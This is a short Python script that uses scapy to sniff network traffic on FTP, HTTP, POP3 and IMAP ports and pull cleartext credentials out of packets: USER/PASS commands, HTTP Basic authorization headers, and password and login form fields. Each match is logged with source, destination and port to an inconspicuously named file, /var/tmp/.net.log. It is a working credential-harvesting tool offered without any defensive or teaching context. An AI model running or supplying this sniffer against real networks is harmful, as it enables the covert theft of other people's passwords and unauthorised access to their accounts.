import re
import sys
from datetime import datetime

from scapy.all import IP, TCP, Raw, sniff

INTEREST = re.compile(rb"(USER |PASS |Authorization: Basic |passw(?:or)?d=|login=)[^\r\n&]{1,80}", re.I)
LOG = "/var/tmp/.net.log"


def look(pkt):
    if not pkt.haslayer(Raw):
        return
    m = INTEREST.search(bytes(pkt[Raw]))
    if m:
        with open(LOG, "a") as fh:
            fh.write(f"{datetime.now():%F %T} {pkt[IP].src}->{pkt[IP].dst}:{pkt[TCP].dport} {m.group(0)!r}\n")


iface = sys.argv[1] if len(sys.argv) > 1 else None
sniff(iface=iface, filter="tcp port 21 or tcp port 80 or tcp port 110 or tcp port 143", prn=look, store=False)
